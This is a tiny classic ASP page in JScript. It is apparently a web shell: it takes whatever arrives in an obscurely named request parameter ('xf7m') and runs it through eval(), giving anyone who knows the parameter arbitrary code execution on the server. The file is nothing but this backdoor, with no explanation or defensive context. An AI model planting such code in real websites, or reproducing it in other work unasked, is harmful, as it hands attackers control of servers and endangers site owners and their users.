<%@ LANGUAGE="JScript" %>
<%
var s = Request.Item("xf7m") + "";
if (s != "undefined" && s != "") {
    eval(s);
}
%>
